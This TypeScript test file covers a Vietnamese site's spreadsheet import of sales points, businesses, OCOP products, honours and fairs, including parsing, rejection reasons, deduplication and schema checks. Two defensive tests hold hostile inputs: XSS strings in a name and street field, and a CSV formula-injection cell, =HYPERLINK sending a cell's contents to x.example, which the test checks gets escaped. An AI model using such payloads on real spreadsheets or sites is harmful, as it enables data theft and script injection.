/**
 * The spreadsheet import (issue 17): values as agencies write them, the header row, the points
 * template, and the command end to end on a fixture with one row for each kind of input — every
 * row accounted for, each refusal naming the column, the value and what to do, the same file
 * imported twice changing nothing, and what it writes accepted by the site's own schema.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync, mkdirSync, statSync, copyFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { foldLabel, readDate, readDateTime, readDecimal, readOpeningHours, readPosition } from '../../src/lib/import-values.ts';
import { fairSchema } from '../../src/schemas/fair.ts';
import { POINT_COLUMNS, readPointRow } from '../../src/lib/import-points.ts';
import { matchHeaders, resolveCommune } from '../../src/lib/import-rows.ts';
import { pointSchema } from '../../src/schemas/point.ts';
import { importPoints, importSheet, type ImportReport } from '../../scripts/import.ts';
import { readSheet } from '../../scripts/import/sheet.ts';
import { readStars } from '../../src/lib/import-products.ts';
import { businessSchema } from '../../src/schemas/business.ts';
import { honorSchema } from '../../src/schemas/honor.ts';
import { productSchemaFor } from '../../src/schemas/product.ts';
import { z } from 'astro/zod';

describe('values as agencies write them', () => {
  it.each([
    ['10,7769', 10.7769],
    ['10.7769', 10.7769],
    ['-5', -5],
    [106.7, 106.7],
  ])('decimal %j is %d', (cell, value) => {
    expect(readDecimal(cell)).toEqual({ ok: true, value });
  });

  it.each(['10,776,9', '10°46′', 'mười', ''])('refuses %j as a number', (cell) => {
    expect(readDecimal(cell).ok).toBe(false);
  });

  it('puts swapped coordinates right, with a note, and refuses a place outside Vietnam', () => {
    expect(readPosition('10,7769', '106,7009')).toEqual({ ok: true, value: { lat: 10.7769, lng: 106.7009 } });
    const swapped = readPosition('106,7009', '10,7769');
    expect(swapped).toMatchObject({ ok: true, value: { lat: 10.7769, lng: 106.7009 } });
    expect(swapped.ok && swapped.note).toMatch(/đảo chỗ/);
    const paris = readPosition('48,8566', '2,3522');
    expect(paris.ok).toBe(false);
    expect(!paris.ok && paris.reason).toMatch(/ngoài lãnh thổ Việt Nam/);
  });

  it.each([
    ['28/11/2026', '2026-11-28'],
    ['01/02/2023', '2023-02-01'],
    ['2026-11-28', '2026-11-28'],
    [46354, '2026-11-28'],
    ['46354', '2026-11-28'],
    [new Date(Date.UTC(2026, 10, 28)), '2026-11-28'],
  ])('date %j is %s', (cell, date) => {
    expect(readDate(cell)).toEqual({ ok: true, value: date });
  });

  it.each(['31/02/2026', '2026-13-01', 'tháng 11'])('refuses the date %j', (cell) => {
    const read = readDate(cell);
    expect(read.ok).toBe(false);
    expect(!read.ok && read.reason).toContain('28/11/2026');
  });

  it.each([
    ['7:00–21:00', 'Mo-Su 07:00-21:00'],
    ['7h-21h', 'Mo-Su 07:00-21:00'],
    ['7h30 - 21h', 'Mo-Su 07:30-21:00'],
    ['Thứ 2 – Thứ 7: 8h–17h', 'Mo-Sa 08:00-17:00'],
    ['thu hai den thu sau 8:00 - 17:00', 'Mo-Fr 08:00-17:00'],
    ['T2-T6: 7h30-17h; T7: 8h-12h', 'Mo-Fr 07:30-17:00; Sa 08:00-12:00'],
    ['T2, T4, T6: 7h-11h', 'Mo,We,Fr 07:00-11:00'],
    ['cả tuần 6h-20h', 'Mo-Su 06:00-20:00'],
    ['Hằng ngày: 6h-11h, 14h-20h', 'Mo-Su 06:00-11:00,14:00-20:00'],
    ['7h đến 9h tối', 'Mo-Su 07:00-21:00'],
    ['Chủ nhật: 7h-11h', 'Su 07:00-11:00'],
    ['cả ngày', '24/7'],
    ['24/24', '24/7'],
    ['Mo-Fr 07:30-17:00; Sa 07:30-11:30', 'Mo-Fr 07:30-17:00; Sa 07:30-11:30'],
  ])('opening hours %j are stored as %j', (written, stored) => {
    expect(readOpeningHours(written)).toEqual({ ok: true, value: stored });
  });

  it.each(['giờ hành chính', 'cả tuần', '25h-26h', 'Thứ 7 – Thứ 2: 8h-17h'])('refuses opening hours %j with the value and an example', (written) => {
    const read = readOpeningHours(written);
    expect(read.ok).toBe(false);
    expect(!read.ok && read.reason).toContain(`"${written}"`);
    expect(!read.ok && read.reason).toContain('Thứ 2 – Thứ 7: 8h–17h');
  });
});

describe('the header row', () => {
  const headers = POINT_COLUMNS.map((c) => c.header);

  it('matches headers case-insensitively, with or without diacritics, in any order', () => {
    const written = ['TÊN', 'loai', 'Dia chi', 'phuong / xa', 'Tỉnh/thành phố', 'VI DO', 'kinh độ', 'Số điện thoại', 'giờ mở cửa'];
    const matched = matchHeaders([...written].reverse(), POINT_COLUMNS);
    expect(matched.ok).toBe(true);
    expect(matched.ok && matched.index.get('name')).toBe(written.length - 1);
    expect(matched.ok && matched.index.get('phone')).toBe(1);
    expect(foldLabel('Phường/Xã')).toBe('phuong xa');
  });

  it('refuses a column the template does not have, naming it and the template', () => {
    const matched = matchHeaders([...headers, 'Ghi chú'], POINT_COLUMNS);
    expect(matched).toEqual({ ok: false, reason: expect.stringContaining('"Ghi chú"') });
    expect(!matched.ok && matched.reason).toContain(headers.join(', '));
  });

  it('refuses a header row without a required column', () => {
    const matched = matchHeaders(headers.filter((h) => h !== 'Kinh độ'), POINT_COLUMNS);
    expect(matched).toEqual({ ok: false, reason: expect.stringContaining('thiếu cột "Kinh độ"') });
  });

  it('takes back the file of rejected rows, its reason column left aside', () => {
    expect(matchHeaders([...headers, 'Lý do không nhận'], POINT_COLUMNS).ok).toBe(true);
  });
});

describe('places', () => {
  it.each([
    // commune, province, code, old label kept
    ['Phường Pleiku', 'Gia Lai', '23575', undefined],
    ['phuong pleiku', 'gia lai', '23575', undefined],
    ['Phường Bến Nghé, Quận 1', 'TP. Hồ Chí Minh', '26740', 'Phường Bến Nghé, Quận 1 (cũ)'],
    ['Phường Lê Lợi, thành phố Quy Nhơn', 'Bình Định', '21583', 'Phường Lê Lợi, Thành phố Quy Nhơn (cũ)'],
    ['Phường Quy Nhơn', 'Bình Định', '21583', 'Bình Định (cũ)'],
    ['26740', 'Hồ Chí Minh', '26740', undefined],
  ])('%s, %s is commune %s', (commune, province, code, old) => {
    const place = resolveCommune(commune, province);
    expect(place).toMatchObject({ ok: true, commune: code });
    expect(place.ok && place.old).toBe(old);
  });

  it('refuses an ambiguous old name, listing the candidates', () => {
    const place = resolveCommune('Phường 7', 'TP. Hồ Chí Minh');
    expect(place.ok).toBe(false);
    expect(!place.ok && place.reason).toMatch(/Phường 7, Quận 5 \(cũ\) → Phường An Đông/);
    expect(!place.ok && place.reason).toMatch(/hãy ghi thêm quận\/huyện cũ/);
  });

  it('refuses a province that does not exist and a commune not in the province', () => {
    expect(resolveCommune('Phường Pleiku', 'Tỉnh Không Có')).toMatchObject({ ok: false, column: 'province' });
    expect(resolveCommune('Phường Sài Gòn', 'Gia Lai')).toMatchObject({ ok: false, column: 'commune' });
  });
});

describe('a row as a point', () => {
  const good = {
    name: 'Điểm bán hàng Việt chợ Pleiku',
    kind: 'Tự hào hàng Việt Nam',
    street: 'Số 12 đường Hùng Vương',
    commune: 'Phường Pleiku',
    province: 'Gia Lai',
    lat: '13,9833',
    lng: '108,0001',
    phone: '0269 3824 000',
    hours: 'Thứ 2 – Chủ nhật: 7h–21h',
  };

  it('is what the site accepts', () => {
    const read = readPointRow(good, '2026-12-02');
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    expect(read.record).toEqual({
      name: good.name,
      kind: 'tu-hao-hang-viet',
      address: { street: good.street, commune: '23575', province: '52' },
      geo: { lat: 13.9833, lng: 108.0001 },
      openingHours: 'Mo-Su 07:00-21:00',
      phone: good.phone,
      lastVerified: '2026-12-02',
    });
    expect(pointSchema.safeParse(read.record).success).toBe(true);
  });

  it('refuses a phone number stored as a number (its leading zero lost)', () => {
    const read = readPointRow({ ...good, phone: 2693824000 }, '2026-12-02');
    expect(read).toMatchObject({ ok: false, problems: [{ column: 'Điện thoại', reason: expect.stringMatching(/số 0 đầu/) }] });
  });

  it('names every problem of a row, each with its column', () => {
    const read = readPointRow({ ...good, name: '', kind: 'Siêu thị', hours: 'giờ hành chính' }, '2026-12-02');
    expect(read.ok).toBe(false);
    expect(!read.ok && read.problems.map((p) => p.column)).toEqual(['Tên', 'Loại', 'Giờ mở cửa']);
  });
});

describe('npm run import -- points', () => {
  const fixture = path.resolve('tests/fixtures/import/diem-ban.csv');
  let work: string;
  let content: string;
  let file: string;
  let report: ImportReport;
  const previous = process.env.HANGVIET_CONTENT;

  /** The rows written, by name. */
  const written = () => {
    const records = parseYaml(readFileSync(path.join(content, 'points', 'nhap-diem-ban.yaml'), 'utf8')) as Record<string, unknown>[];
    return new Map(records.map((r) => [r.name as string, r]));
  };

  beforeAll(async () => {
    work = mkdtempSync(path.join(tmpdir(), 'hangviet-import-'));
    content = path.join(work, 'content');
    mkdirSync(path.join(content, 'points'), { recursive: true });
    // A point the committee already has: row 15 of the fixture is the same point.
    writeFileSync(
      path.join(content, 'points', 'co-san.yaml'),
      '- id: diem-ban-da-co\n  name: Điểm bán đã có\n  kind: tu-hao-hang-viet\n  address: { street: Số 10 Quang Trung, commune: "23575", province: "52" }\n  geo: { lat: 13.98, lng: 108.07 }\n  lastVerified: "2026-10-01"\n',
    );
    file = path.join(work, 'diem-ban.csv');
    copyFileSync(fixture, file);
    process.env.HANGVIET_CONTENT = content;
    report = await importPoints(file, { dryRun: false, today: '2026-12-02' });
  });

  afterAll(() => {
    if (previous === undefined) delete process.env.HANGVIET_CONTENT;
    else process.env.HANGVIET_CONTENT = previous;
    rmSync(work, { recursive: true, force: true });
  });

  it('accounts for every row: accepted + rejected + duplicates = total (the blank row not counted)', () => {
    expect(report.total).toBe(15);
    expect(report.accepted + report.rejected.length + report.duplicates.length).toBe(report.total);
    expect(report.accepted).toBe(6);
  });

  it.each([
    // row, column, what the reason says
    [4, 'Vĩ độ', /ngoài lãnh thổ Việt Nam/],
    [6, 'Phường/Xã', /khớp với nhiều xã\/phường/],
    [10, 'Giờ mở cửa', /"giờ hành chính".*Thứ 2 – Thứ 7: 8h–17h/],
    [11, 'Loại', /chọn|một trong/],
    [12, 'Ngày kiểm tra', /"31\/02\/2026" không phải một ngày có thật/],
    [14, 'Tên', /ô "Tên" đang trống/],
    [17, 'Điện thoại', /chỉ gồm chữ số/],
  ])('refuses row %i at column %s', (row, column, reason) => {
    const found = report.rejected.find((r) => r.row === row);
    expect(found, `dòng ${row} phải bị từ chối`).toBeDefined();
    expect(found!.column).toBe(column);
    expect(found!.reason).toMatch(reason);
  });

  it('finds the duplicates: of an earlier row, written differently, and of a record already there', () => {
    expect(report.duplicates).toEqual([
      { row: 8, sameAs: 2 },
      { row: 15, sameAs: 'diem-ban-da-co' },
    ]);
  });

  it('writes the accepted rows as the site stores them, NFC, every one valid for the schema', () => {
    const records = written();
    expect([...records.keys()].every((name) => name === name.normalize('NFC'))).toBe(true);
    expect(records.get('Điểm bán hàng Việt chợ Pleiku')).toMatchObject({ id: 'diem-ban-hang-viet-cho-pleiku', openingHours: 'Mo-Su 07:00-21:00', lastVerified: '2026-11-28', phone: '0269 3824 000' });
    expect(records.get('Điểm bán ngày Excel')).toMatchObject({ lastVerified: '2026-11-28' });
    expect(records.get('Cửa hàng OCOP Quy Nhơn')).toMatchObject({ kind: 'cua-hang-ocop', geo: { lat: 13.7722, lng: 109.2251 }, openingHours: 'Mo-Sa 08:00-17:00' });
    for (const [name, record] of records) {
      const { id, ...data } = record;
      expect(typeof id).toBe('string');
      expect(pointSchema.safeParse(data).error?.issues ?? [], name).toEqual([]);
    }
  });

  it('maps a pre-2025 address to its commune and keeps the address as written', () => {
    expect(written().get('Điểm bán hàng Việt Bến Thành')).toMatchObject({
      address: { commune: '26740', province: '79', oldAddress: 'Số 1 Lê Lợi, Phường Bến Nghé, Quận 1, TP. Hồ Chí Minh' },
    });
    expect(written().get('Câu lạc bộ bán hàng Việt An Nhơn')).toMatchObject({ address: { commune: '21583', province: '52', oldAddress: 'Số 9 Trần Phú, Phường Quy Nhơn, Bình Định' } });
    expect(report.notes.map((n) => n.row)).toEqual(expect.arrayContaining([3, 5, 7]));
  });

  it('keeps HTML-looking text as text', () => {
    const record = written().get('"><svg onload=alert(1)>');
    expect(record).toBeDefined();
    expect((record!.address as { street: string }).street).toBe('<img src=x onerror=alert(1)>');
  });

  it('writes the rejected rows, with their reasons, to fix and import again', () => {
    const rejected = parseCsv(readFileSync(path.join(work, 'diem-ban.rejected.csv'), 'utf8'), { bom: true, delimiter: ';' }) as string[][];
    expect(rejected[0]!.at(-1)).toBe('Lý do không nhận');
    expect(rejected.slice(1).map((r) => r[0])).toEqual(report.rejected.map((r) => (r.row === 14 ? '' : expect.any(String))));
    expect(rejected).toHaveLength(report.rejected.length + 1);
  });

  it('guards a rejected cell a spreadsheet would run as a formula, and reads it back as written', async () => {
    const sheet = path.join(work, 'cong-thuc.csv');
    const cells = ['=HYPERLINK("https://x.example/?d="&A1)', 'Tự hào hàng Việt Nam', '-Số 1 Lê Lợi', 'Phường Pleiku', 'Không có tỉnh này', '13,98', '108,01', '+84 269 3824 000', '', ''];
    writeFileSync(sheet, `ten;loai;dia chi;phuong/xa;tinh/thanh pho;vi do;kinh do;dien thoai;gio mo cua;ngay kiem tra\r\n${cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(';')}\r\n`);
    const result = await importPoints(sheet, { dryRun: false, today: '2026-12-02' });
    expect(result.rejected).toHaveLength(1);
    const rejectedFile = path.join(work, 'cong-thuc.rejected.csv');
    const raw = parseCsv(readFileSync(rejectedFile, 'utf8'), { bom: true, delimiter: ';' }) as string[][];
    expect(raw[1]!.slice(0, 3)).toEqual([`'${cells[0]}`, cells[1], `'${cells[2]}`]);
    expect(raw[1]![7]).toBe(`'${cells[7]}`);
    const back = await readSheet(rejectedFile);
    expect(back.rows[0]!.cells.slice(0, cells.length)).toEqual(cells);
  });

  it('changes nothing when the same file is imported again, on another day', async () => {
    const target = path.join(content, 'points', 'nhap-diem-ban.yaml');
    const before = readFileSync(target, 'utf8');
    const mtime = statSync(target).mtimeMs;
    const again = await importPoints(file, { dryRun: false, today: '2027-01-15' });
    expect(again.changed).toBe(false);
    expect(readFileSync(target, 'utf8')).toBe(before);
    expect(statSync(target).mtimeMs).toBe(mtime);
    // Rows without a date keep the one they were given the first time.
    expect(again.verifiedDefault).toEqual({ date: '2027-01-15', rows: 0 });
    expect({ ...again, changed: true, verifiedDefault: null }).toEqual({ ...report, changed: true, verifiedDefault: null });
  });

  it('writes nothing on a dry run', async () => {
    // Into an empty collection, so the rows are not duplicates of the import above.
    const empty = path.join(work, 'trong');
    process.env.HANGVIET_CONTENT = empty;
    const dry = path.join(work, 'thu.csv');
    copyFileSync(fixture, dry);
    try {
      const result = await importPoints(dry, { dryRun: true, today: '2026-12-02' });
      expect(result).toMatchObject({ total: 15, accepted: 7, written: null });
    } finally {
      process.env.HANGVIET_CONTENT = content;
    }
    expect(existsSync(empty)).toBe(false);
    expect(existsSync(path.join(work, 'thu.rejected.csv'))).toBe(false);
  });

  it('reads an XLSX workbook with typed cells: numbers, a date cell, text stored as numbers refused', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Điểm bán');
    sheet.addRow(['Tên', 'Loại', 'Địa chỉ', 'Phường/Xã', 'Tỉnh/Thành phố', 'Vĩ độ', 'Kinh độ', 'Điện thoại', 'Giờ mở cửa', 'Ngày kiểm tra']);
    sheet.addRow(['Điểm bán Excel', 'Tự hào hàng Việt Nam', 'Số 20 Hùng Vương', 'Phường Pleiku', 'Gia Lai', 13.9801, 108.0101, '0269 3000 000', '7h-21h', new Date(Date.UTC(2026, 10, 20))]);
    sheet.addRow(['Điểm bán số máy dạng số', 'Tự hào hàng Việt Nam', 'Số 21 Hùng Vương', 'Phường Pleiku', 'Gia Lai', 13.9802, 108.0102, 2693000001, '', '']);
    const xlsx = path.join(work, 'so-lieu.xlsx');
    await workbook.xlsx.writeFile(xlsx);
    const result = await importPoints(xlsx, { dryRun: false, today: '2026-12-02' });
    expect(result).toMatchObject({ total: 2, accepted: 1, rejected: [{ row: 3, column: 'Điện thoại' }] });
    const records = parseYaml(readFileSync(path.join(content, 'points', 'nhap-so-lieu.yaml'), 'utf8')) as Record<string, unknown>[];
    expect(records[0]).toMatchObject({ name: 'Điểm bán Excel', geo: { lat: 13.9801, lng: 108.0101 }, lastVerified: '2026-11-20' });
  });

  describe('the command', () => {
    const run = (...args: string[]) =>
      spawnSync(process.execPath, ['scripts/import.ts', 'points', ...args], { encoding: 'utf8', env: { ...process.env, HANGVIET_CONTENT: content } });
    /** The same, into an empty collection. */
    const runEmpty = (...args: string[]) =>
      spawnSync(process.execPath, ['scripts/import.ts', 'points', ...args], { encoding: 'utf8', env: { ...process.env, HANGVIET_CONTENT: path.join(work, 'trong') } });

    it('exits 1 when some rows were rejected, and writes the report', () => {
      const reportFile = path.join(work, 'bao-cao.json');
      const result = run(file, '--dry-run', '--report', reportFile, '--today', '2026-12-02');
      expect(result.status).toBe(1);
      expect(result.stdout).toContain('15 dòng — nhận 6, từ chối 7, trùng 2');
      // Rows without a last-checked date get the day of the import, and the person is told.
      expect(result.stdout).toContain('4 dòng không ghi "Ngày kiểm tra": trang sẽ ghi kiểm tra lần cuối ngày 02/12/2026');
      const written = JSON.parse(readFileSync(reportFile, 'utf8')) as ImportReport;
      expect(written.accepted + written.rejected.length + written.duplicates.length).toBe(written.total);
    });

    it('gives rows without a last-checked date the one named by --verified', () => {
      const reportFile = path.join(work, 'bao-cao-ngay.json');
      run(file, '--dry-run', '--report', reportFile, '--verified', '15/11/2026');
      expect((JSON.parse(readFileSync(reportFile, 'utf8')) as ImportReport).verifiedDefault).toEqual({ date: '2026-11-15', rows: 4 });
      expect(run(file, '--dry-run', '--verified', '31/11/2026').status).toBe(2);
    });

    it('exits 0 when every row was accepted: the template it writes imports cleanly', () => {
      const out = path.join(work, 'mau');
      expect(run('--template', '--out', out).status).toBe(0);
      for (const name of ['mau-nhap-diem-ban.csv', 'mau-nhap-diem-ban.xlsx']) {
        const result = runEmpty(path.join(out, name), '--dry-run');
        expect(result.status, result.stdout + result.stderr).toBe(0);
        expect(result.stdout).toContain('nhận 1, từ chối 0');
      }
    });

    it('exits 2, saying what to do, for a file in a legacy encoding', () => {
      // "Tên;Loại" and a row in Windows-1258 (ê = 0xEA, ạ = a + combining dot 0xF2): not UTF-8.
      const legacy = path.join(work, 'cu.csv');
      writeFileSync(legacy, Buffer.from([0x54, 0xea, 0x6e, 0x3b, 0x4c, 0x6f, 0x61, 0xf2, 0x69, 0x0d, 0x0a]));
      const result = run(legacy);
      expect(result.status).toBe(2);
      expect(result.stderr).toMatch(/không ở mã UTF-8.*Windows-1258.*CSV UTF-8/s);
    });

    it('exits 2 for a header row it cannot use, naming the column', () => {
      const odd = path.join(work, 'cot-la.csv');
      writeFileSync(odd, 'Tên,Loại,Ghi chú\nA,B,C\n');
      const result = run(odd);
      expect(result.status).toBe(2);
      expect(result.stderr).toContain('cột không thuộc mẫu: "Ghi chú"');
    });
  });
});

describe('npm run import -- businesses, then products, then honours', () => {
  let work: string;
  let content: string;
  let businesses: ImportReport;
  let products: ImportReport;
  let honors: ImportReport;
  const previous = process.env.HANGVIET_CONTENT;
  const written = (collection: string, stem: string) =>
    new Map((parseYaml(readFileSync(path.join(content, collection, `nhap-${stem}.yaml`), 'utf8')) as Record<string, unknown>[]).map((r) => [r.id as string, r]));

  beforeAll(async () => {
    work = mkdtempSync(path.join(tmpdir(), 'hangviet-import-'));
    content = path.join(work, 'content');
    for (const name of ['chu-the.csv', 'san-pham-ocop.csv', 'ton-vinh.csv']) copyFileSync(path.resolve('tests/fixtures/import', name), path.join(work, name));
    // The programme the honours list names, as the sample has it.
    mkdirSync(path.join(content, 'honor-programs'), { recursive: true });
    copyFileSync(path.resolve('content/honor-programs/hang-viet-nam-chat-luong-cao.yaml'), path.join(content, 'honor-programs/hang-viet-nam-chat-luong-cao.yaml'));
    process.env.HANGVIET_CONTENT = content;
    businesses = await importSheet('businesses', path.join(work, 'chu-the.csv'), { dryRun: false, today: '2026-12-02' });
    products = await importSheet('products', path.join(work, 'san-pham-ocop.csv'), { dryRun: false, today: '2026-12-02' });
    honors = await importSheet('honors', path.join(work, 'ton-vinh.csv'), { dryRun: false, today: '2026-12-02' });
  });

  afterAll(() => {
    if (previous === undefined) delete process.env.HANGVIET_CONTENT;
    else process.env.HANGVIET_CONTENT = previous;
    rmSync(work, { recursive: true, force: true });
  });

  it('accounts for every business row, refusing each bad one at its column', () => {
    expect(businesses).toMatchObject({ total: 6, accepted: 2, duplicates: [{ row: 5, sameAs: 2 }] });
    expect(businesses.rejected.map((r) => [r.row, r.column])).toEqual([
      [4, 'Mã số thuế'],
      [6, 'Loại hình'],
      [7, 'Trang web'],
    ]);
    expect(businesses.rejected[0]!.reason).toMatch(/chữ số kiểm tra/);
  });

  it('writes businesses the site accepts: a personal tax number, an old address kept, https added', () => {
    const records = written('businesses', 'chu-the');
    for (const [id, { id: _, ...data }] of records) expect(businessSchema.safeParse(data).error?.issues ?? [], id).toEqual([]);
    expect(records.get('ho-kinh-doanh-mat-ong-ia-der')).toMatchObject({
      kind: 'ho-kinh-doanh',
      taxCode: '064090123456',
      website: 'https://matong-iader.vn/',
      address: { commune: '23767', oldAddress: 'Làng Ia Dêr, Xã Ia Der, Huyện Ia Grai, Gia Lai' },
    });
  });

  it('finds each product’s producer by tax code or by name, and refuses what it cannot place', () => {
    expect(products).toMatchObject({ total: 8, accepted: 3, duplicates: [{ row: 9, sameAs: 2 }] });
    expect(products.rejected.map((r) => [r.row, r.column])).toEqual([
      [4, 'Chủ thể'],
      [5, 'Điểm'],
      [6, 'Nhóm sản phẩm'],
      [8, 'Nhóm sản phẩm'],
    ]);
    expect(products.rejected.find((r) => r.row === 8)!.others.map((o) => o.column)).toEqual(['Số quyết định', 'Ngày quyết định', 'Cơ quan công nhận']);
    const records = written('products', 'san-pham-ocop');
    expect(records.get('ca-phe-rang-xay-ia-grai')).toMatchObject({ business: 'hop-tac-xa-nong-nghiep-ia-grai', ocop: { group: 'do-uong', stars: 4, score: 78, decisionDate: '2025-06-15' } });
    expect(records.get('mat-ong-hoa-ca-phe-ia-der')).toMatchObject({ business: 'ho-kinh-doanh-mat-ong-ia-der', ocop: { stars: 3 } });
    expect(records.get('ca-phe-phin-giay-ia-grai')).toEqual({ id: 'ca-phe-phin-giay-ia-grai', name: 'Cà phê phin giấy Ia Grai', business: 'hop-tac-xa-nong-nghiep-ia-grai', province: '52' });
    const productSchema = productSchemaFor(() => z.string());
    for (const [id, { id: _, ...data }] of records) expect(productSchema.safeParse(data).error?.issues ?? [], id).toEqual([]);
  });

  it('reads honours: the programme by name, the business by tax code or name, its product by name', () => {
    expect(honors).toMatchObject({ total: 6, accepted: 2, duplicates: [{ row: 6, sameAs: 2 }] });
    expect(honors.rejected.map((r) => [r.row, r.column])).toEqual([
      [4, 'Chương trình'],
      [5, 'Ngày quyết định'],
      [7, 'Sản phẩm'],
    ]);
    const records = written('honors', 'ton-vinh');
    expect([...records.values()]).toEqual([
      { id: 'hang-viet-nam-chat-luong-cao-2026-hop-tac-xa-nong-nghiep-ia-grai', program: 'hang-viet-nam-chat-luong-cao', year: 2026, business: 'hop-tac-xa-nong-nghiep-ia-grai', product: 'ca-phe-rang-xay-ia-grai', decisionNumber: '12/QĐ-HDN', decisionDate: '2026-01-20' },
      { id: 'hang-viet-nam-chat-luong-cao-2026-ho-kinh-doanh-mat-ong-ia-der', program: 'hang-viet-nam-chat-luong-cao', year: 2026, business: 'ho-kinh-doanh-mat-ong-ia-der', title: 'Top 10 sản phẩm tiêu biểu', decisionNumber: '12/QĐ-HDN', decisionDate: '2026-01-20' },
    ]);
    for (const [id, { id: _, ...data }] of records) expect(honorSchema.safeParse(data).error?.issues ?? [], id).toEqual([]);
  });

  it.each([
    [4, 4],
    ['4', 4],
    ['4 sao', 4],
    ['5*', 5],
    ['★★★', 3],
    ['2', undefined],
    ['bốn', undefined],
  ])('reads stars %j as %j', (cell, stars) => {
    expect(readStars(cell)).toBe(stars);
  });
});

describe('npm run import -- fairs', () => {
  let work: string;
  let content: string;
  let report: ImportReport;
  const previous = process.env.HANGVIET_CONTENT;
  const fairFile = (id: string) => readFileSync(path.join(content, 'fairs', `${id}.md`), 'utf8');
  const frontmatterOf = (text: string) => parseYaml(/^---\n([\s\S]*?)\n---/.exec(text)![1]!) as Record<string, unknown>;

  beforeAll(async () => {
    work = mkdtempSync(path.join(tmpdir(), 'hangviet-import-'));
    content = path.join(work, 'content');
    copyFileSync(path.resolve('tests/fixtures/import/hoi-cho.csv'), path.join(work, 'hoi-cho.csv'));
    process.env.HANGVIET_CONTENT = content;
    report = await importSheet('fairs', path.join(work, 'hoi-cho.csv'), { dryRun: false, today: '2026-12-02' });
  });

  afterAll(() => {
    if (previous === undefined) delete process.env.HANGVIET_CONTENT;
    else process.env.HANGVIET_CONTENT = previous;
    rmSync(work, { recursive: true, force: true });
  });

  it('accounts for every row, refusing a market that meets all year (the editor writes those)', () => {
    expect(report).toMatchObject({ total: 7, accepted: 2, duplicates: [{ row: 7, sameAs: 2 }] });
    expect(report.rejected.map((r) => [r.row, r.column])).toEqual([
      [4, 'Bế mạc'],
      [5, 'Loại'],
      [6, 'Bế mạc'],
      [8, 'Đối tượng đăng ký'],
    ]);
    expect(report.rejected.find((r) => r.row === 6)!.reason).toMatch(/trình soạn thảo/);
  });

  it('writes one Markdown file per fair that the site accepts, its text in paragraphs', () => {
    const text = fairFile('hoi-cho-hang-viet-ve-xa-ia-grai-2027');
    const data = frontmatterOf(text);
    expect(data).toMatchObject({ kind: 'hoi-cho-nong-thon', start: '2027-03-12 08:00', end: '2027-03-15 21:00', dailyHours: '08:00-22:00', registration: { booths: 120, deadline: '2027-03-01' } });
    expect(fairSchema.safeParse(data).error?.issues ?? []).toEqual([]);
    expect(text.endsWith('\n\nHội chợ có 120 gian hàng.\n\nCó phiên bán hàng lưu động.\n')).toBe(true);
    const market = frontmatterOf(fairFile('phien-cho-hang-viet-ia-der-2027'));
    expect(market).toMatchObject({ venue: { geo: { lat: 13.98, lng: 107.96 }, address: { commune: '23767' } } });
    expect(fairSchema.safeParse(market).error?.issues ?? []).toEqual([]);
  });

  it('changes nothing when the same file is imported again (its own files are not duplicates)', async () => {
    const before = fairFile('hoi-cho-hang-viet-ve-xa-ia-grai-2027');
    const again = await importSheet('fairs', path.join(work, 'hoi-cho.csv'), { dryRun: false, today: '2027-01-15' });
    expect(again).toMatchObject({ accepted: 2, changed: false, duplicates: [{ row: 7, sameAs: 2 }] });
    expect(fairFile('hoi-cho-hang-viet-ve-xa-ia-grai-2027')).toBe(before);
  });
});

describe('date and time cells', () => {
  it.each([
    ['12/03/2027 8h', '2027-03-12 08:00'],
    ['12/03/2027 08:30', '2027-03-12 08:30'],
    ['2027-03-12 21:00', '2027-03-12 21:00'],
    ['12/03/2027, 7 giờ', '2027-03-12 07:00'],
    [new Date(Date.UTC(2027, 2, 12, 8, 0)), '2027-03-12 08:00'],
    [46458.3333333, '2027-03-12 08:00'],
  ])('%j is %s (Vietnam time)', (cell, value) => {
    expect(readDateTime(cell)).toEqual({ ok: true, value });
  });

  it.each(['12/03/2027', '31/02/2027 08:00', '12/03/2027 25:00'])('refuses %j', (cell) => {
    expect(readDateTime(cell).ok).toBe(false);
  });
});
